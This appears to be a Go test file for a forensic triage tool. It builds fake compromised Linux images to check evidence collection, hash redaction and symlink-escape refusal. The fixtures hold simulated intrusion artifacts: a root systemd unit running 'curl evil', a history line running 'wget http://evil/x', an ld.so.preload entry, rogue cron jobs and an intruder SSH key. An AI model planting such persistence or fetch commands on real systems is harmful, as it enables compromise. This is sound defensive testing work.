package forensics

import (
	"bytes"
	"encoding/json"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"golang.org/x/sys/unix"

	"firebreak/record"
)

// image lays out the files of a mounted image; a value beginning with "-> "
// makes a symbolic link.
func image(t *testing.T, files map[string]string) string {
	t.Helper()
	root := t.TempDir()
	for name, content := range files {
		p := filepath.Join(root, name)
		must(t, os.MkdirAll(filepath.Dir(p), 0o755))
		if target, ok := strings.CutPrefix(content, "-> "); ok {
			must(t, os.Symlink(target, p))
			continue
		}
		must(t, os.WriteFile(p, []byte(content), 0o600))
	}
	return root
}

const passwdText = "root:x:0:0:root:/root:/bin/bash\n" +
	"alice:x:1000:1000:Alice,,,:/home/alice:/bin/bash\n" +
	"svc:x:999:999::/srv/svc:/usr/sbin/nologin\n" +
	"guest:x:1001:1001::/home/guest:/bin/sh\n" +
	"old:$1$abc$hashhashhash:1002:1002::/home/old:/bin/sh\n"

const shadowText = "root:!$y$j9T$secretsecret:19000:0:99999:7:::\n" +
	"alice:$6$salt$SECRETHASH:20000:0:99999:7::21000:\n" +
	"svc:*:19000::::::\n" +
	"guest::19000:0:99999:7:::\n"

func TestImage(t *testing.T) {
	root := image(t, map[string]string{
		"etc/localtime": "-> /usr/share/zoneinfo/Europe/Paris", "etc/os-release": "ID=x\nPRETTY_NAME=\"Debian 12\"\n",
		"etc/hostname": "victim-7\n", "etc/passwd": passwdText, "etc/shadow": shadowText,
		"etc/group": "sudo:x:27:alice\nroot:x:0:\n", "etc/sudoers": "root ALL=(ALL) ALL\n", "etc/sudoers.d/90": "alice ALL=(ALL) NOPASSWD: ALL\n",
		"etc/crontab": "* * * * * root /tmp/.x\n", "var/spool/cron/crontabs/alice": "@reboot /tmp/y\n",
		"etc/ld.so.preload":                            "/usr/lib/evil.so\n",
		"etc/systemd/system/evil.service":              "[Service]\nUser=root\nExecStart=/bin/sh -c \\\n  'curl evil'\n[Install]\nWantedBy=multi-user.target\n",
		"etc/systemd/system/evil.timer":                "[Timer]\nOnCalendar=hourly\nOnBootSec=5min\n",
		"etc/systemd/system/sshd.service.d/x.conf":     "[Service]\nExecStartPre=/tmp/x\n",
		"etc/systemd/system/multi-user.target.wants/e": "-> ../evil.service",
		"usr/lib/systemd/system/ssh.service":           "[Service]\nExecStart=/usr/sbin/sshd -D\n",
		"lib":                                          "-> usr/lib",
		"home/alice/.ssh/authorized_keys":              "ssh-ed25519 AAAA intruder\n",
		"home/alice/.bash_history":                     "#1732150000\nwget http://evil/x\n",
		"home/alice/.config/systemd/user/u.service":    "[Service]\nExecStart=/home/alice/x\n",
		"home/stray/.zsh_history":                      ": 1732150000:0;id\n",
		"root/.bashrc":                                 "alias ls=x\n",
		"srv/svc/.ssh/authorized_keys":                 "ssh-rsa BBBB\n",
		"etc/ssh/sshd_config":                          "Port 22\nauthorizedkeysfile .ssh/authorized_keys /etc/keys/%u \"%h/k\"\n",
		"etc/keys/alice":                               "ssh-ed25519 CCCC\n",
		"home/alice/k":                                 "ssh-ed25519 DDDD\n",
		"var/log/syslog.\xff\xfe":                      "Nov 21 03:00:00 victim-7 x: y\n",
		"home/guest/.ssh":                              "-> /home/alice/.ssh",
		"home/old/.bash_history":                       "-> /etc/shadow",
		"var/log/auth.log":                             "Nov 21 03:00:00 victim-7 sshd[7]: x\n", "var/log/auth.log.1": "older\n",
		"var/log/syslog":                "-> ../../../../../../etc/hostname",
		"var/log/wtmp":                  strings.Repeat("\x00", 384),
		"var/log/journal/abc/x.journal": "LPKSHHRH", "var/log/dpkg.log": "2026-11-21 03:00:00 startup archives unpack\n",
	})
	l := newLocker(t)
	got, sum, err := take(t, Options{Root: root, Sink: l, Paths: []string{"/etc", "/home"}})
	must(t, err)
	if sum.Host != "victim-7" || sum.Root != root || sum.Profile != Triage {
		t.Errorf("%+v", sum)
	}
	bySource := map[string]record.Exhibit{}
	for _, e := range got {
		bySource[e.Source] = e
		if e.Host != "victim-7" {
			t.Errorf("%s: host %q", e.Source, e.Host)
		}
		for _, secret := range []string{"SECRETHASH", "secretsecret", "hashhashhash"} {
			if bytes.Contains(plain(t, l, e), []byte(secret)) {
				t.Errorf("%s holds a password hash", e.Source)
			}
		}
	}
	for _, want := range []string{
		"/etc/passwd", "/etc/group", "/etc/sudoers", "/etc/sudoers.d/90", "/etc/crontab", "/var/spool/cron/crontabs/alice", "/etc/ld.so.preload",
		"/etc/systemd/system/evil.service", "/etc/systemd/system/sshd.service.d/x.conf", "/home/alice/.ssh/authorized_keys", "/home/alice/.bash_history",
		"/home/alice/.config/systemd/user/u.service", "/home/stray/.zsh_history", "/root/.bashrc", "/srv/svc/.ssh/authorized_keys",
		"/etc/keys/alice", "/home/alice/k", `/var/log/syslog.\xff\xfe`,
		"/var/log/auth.log", "/var/log/auth.log.1", "/var/log/wtmp", "/var/log/journal/abc/x.journal", "/var/log/dpkg.log", "[/etc /home]",
	} {
		if _, ok := bySource[want]; !ok {
			t.Errorf("%s was not taken", want)
		}
	}
	for _, no := range []string{"/etc/shadow", "/usr/lib/systemd/system/ssh.service", "/home/guest/.ssh/authorized_keys"} {
		if _, ok := bySource[no]; ok {
			t.Errorf("%s was taken", no)
		}
	}
	for source, reason := range map[string]string{
		"/var/log/syslog": "symbolic link to", "/home/old/.bash_history": "symbolic link to \"/etc/shadow\"",
		"/home/guest/.ssh": "a folder on the way is a symbolic link", "/": "live state",
	} {
		if r := refusedFor(sum, source); !strings.Contains(r, reason) {
			t.Errorf("%s: refused for %q", source, r)
		}
	}
	checkAccounts(t, plain(t, l, bySource["/etc/passwd, /etc/shadow, /etc/group"]))
	for _, e := range got {
		if e.Format == FormatSystem {
			if s := lines[System](t, plain(t, l, e)); len(s) != 1 || s[0].Zone != "Europe/Paris" || s[0].OS != "Debian 12" || s[0].Host != "victim-7" || s[0].Kernel != "" {
				t.Errorf("%+v", s)
			}
		}
		if e.Format == FormatUnits {
			checkUnits(t, plain(t, l, e))
		}
	}
	if e := bySource["/etc/passwd"]; len(e.Deviations) != 1 || !strings.Contains(e.Deviations[0], "1 password fields") {
		t.Errorf("passwd with a hash: %+v", e)
	}
}

func checkAccounts(t *testing.T, b []byte) {
	t.Helper()
	want := map[string]string{"root": "locked yescrypt", "alice": "usable sha512", "svc": "disabled ", "guest": "empty ", "old": "usable md5"}
	for line := range bytes.Lines(b) {
		var a Account
		must(t, json.Unmarshal(line, &a))
		if got := a.Password + " " + a.Scheme; got != want[a.Name] {
			t.Errorf("%s: %q, want %q", a.Name, got, want[a.Name])
		}
		if a.Name == "alice" && (a.Changed.Format("2006-01-02") != "2024-10-04" || a.Expires.IsZero() || len(a.Groups) != 1 || a.Groups[0] != "sudo") {
			t.Errorf("%+v", a)
		}
		delete(want, a.Name)
	}
	if len(want) != 0 {
		t.Errorf("missing %v", want)
	}
}

func checkUnits(t *testing.T, b []byte) {
	t.Helper()
	units := map[string]Unit{}
	for line := range bytes.Lines(b) {
		var u Unit
		must(t, json.Unmarshal(line, &u))
		if _, twice := units[u.Path]; twice {
			t.Errorf("%s is there twice", u.Path)
		}
		units[u.Path] = u
	}
	evil := units["/etc/systemd/system/evil.service"]
	if evil.Kind != "service" || evil.User != "root" || len(evil.Exec) != 1 || evil.Exec[0] != "ExecStart=/bin/sh -c  'curl evil'" ||
		len(evil.WantedBy) != 1 || len(evil.SHA256) != 64 || evil.Vendor {
		t.Errorf("%+v", evil)
	}
	if u := units["/etc/systemd/system/evil.timer"]; len(u.Timer) != 2 {
		t.Errorf("%+v", u)
	}
	if u := units["/etc/systemd/system/sshd.service.d/x.conf"]; u.Name != "sshd.service" || u.DropIn != "x.conf" || u.Kind != "service" {
		t.Errorf("%+v", u)
	}
	if u := units["/etc/systemd/system/multi-user.target.wants/e"]; u.Target != "../evil.service" || u.Wants != "multi-user.target" {
		t.Errorf("%+v", u)
	}
	if u := units["/usr/lib/systemd/system/ssh.service"]; !u.Vendor {
		t.Errorf("%+v", u)
	}
}

// Nothing in an image leads out of it: not "..", not absolute links, not links
// in folders on the way.
func TestImageIsClosed(t *testing.T) {
	outside := t.TempDir()
	must(t, os.WriteFile(outside+"/auth.log", []byte("OUTSIDE"), 0o600))
	for name, target := range map[string]string{"absolute": outside, "dots": "../../../../../../../../" + outside} {
		root := image(t, map[string]string{"var/log": "-> " + target})
		l := newLocker(t)
		got, sum, err := take(t, Options{
			Root: root, Sink: l, Collectors: []string{"auth", "listing"}, Paths: []string{"/var/log", "/var"},
			Files: []string{"/var/log/auth.log", "/../" + outside + "/auth.log", "/var/../../../../.." + outside + "/auth.log"},
		})
		must(t, err)
		for _, e := range got {
			if b := plain(t, l, e); bytes.Contains(b, []byte("OUTSIDE")) || bytes.Contains(b, []byte("auth.log")) {
				t.Errorf("%s: %s got out: %s", name, e.Source, b)
			}
		}
		if len(got) != 1 || refusedFor(sum, "/var/log/auth.log") == "" {
			t.Errorf("%s: %v, %v", name, got, sum.Refused)
		}
	}
}

// The same without openat2, as on kernels before 5.6 and in some sandboxes.
func TestWithoutOpenat2(t *testing.T) {
	root := image(t, map[string]string{"a/b/file": "x", "a/link": "-> b", "l": "-> a/b/file"})
	tr, err := openTree(root)
	must(t, err)
	defer func() { _ = tr.root.Close() }()
	for _, proc := range []bool{true, false} {
		tr.openat2, tr.proc = false, proc
		h, err := tr.at("/", "/a/b/file", false)
		must(t, err)
		f, err := tr.open(h, false)
		must(t, err)
		must(t, f.Close())
		// Replaced between look and open: only the comparison can notice.
		must(t, os.Rename(root+"/a/b/file", root+"/a/b/old"))
		must(t, os.WriteFile(root+"/a/b/file", []byte("new"), 0o600))
		f, err = tr.open(h, false)
		if proc {
			must(t, err)
			must(t, f.Close())
		} else if err == nil {
			t.Error("another file was opened in its place")
		}
		must(t, h.close())
		must(t, os.Rename(root+"/a/b/old", root+"/a/b/file"))
		if _, err := tr.at("/", "/a/link/file", false); err == nil {
			t.Error("a link on the way was followed")
		}
		h, err = tr.at("/", "/l", false)
		must(t, err)
		if tr.regular(h) == nil {
			t.Error("a link passed for a file")
		}
		must(t, h.close())
		if _, err := tr.at("/", "/none", false); !missing(err) {
			t.Errorf("missing: %v", err)
		}
	}
}

func TestNetworkMountsAreNotTouched(t *testing.T) {
	dir := t.TempDir()
	must(t, os.WriteFile(dir+"/f", nil, 0o600))
	tr, err := openTree("/")
	must(t, err)
	defer func() { _ = tr.root.Close() }()
	tr.foreign = append(tr.foreign, dir)
	for _, name := range []string{dir, dir + "/f", dir + "/none"} {
		if _, err := tr.at("/", name, false); err == nil || !strings.Contains(err.Error(), "network or user-space file system") {
			t.Errorf("%s: %v", name, err)
		}
	}
}

func TestTimesFitTheCalendar(t *testing.T) {
	for _, sec := range []int64{-1 << 62, 1 << 62, 0, -62135596800} {
		b, err := json.Marshal(record.Stat{Modified: timeOf(unix.StatxTimestamp{Sec: sec})})
		if err != nil {
			t.Errorf("%d: %v", sec, err)
		}
		if bytes.Contains(b, []byte(`"modified":"0001-01-01T00:00:00Z"`)) {
			t.Errorf("%d reads as no time at all", sec)
		}
	}
}

func TestModeString(t *testing.T) {
	for mode, want := range map[uint16]string{
		0o100644: "-rw-r--r--", 0o104755: "-rwsr-xr-x", 0o102644: "-rw-r-Sr--", 0o41777: "drwxrwxrwt", 0o120777: "lrwxrwxrwx",
		0o10600: "prw-------", 0o140700: "srwx------", 0o60600: "brw-------", 0o20666: "crw-rw-rw-", 0o101000: "---------T",
	} {
		if got := modeString(mode); got != want {
			t.Errorf("%o: %s, want %s", mode, got, want)
		}
	}
}
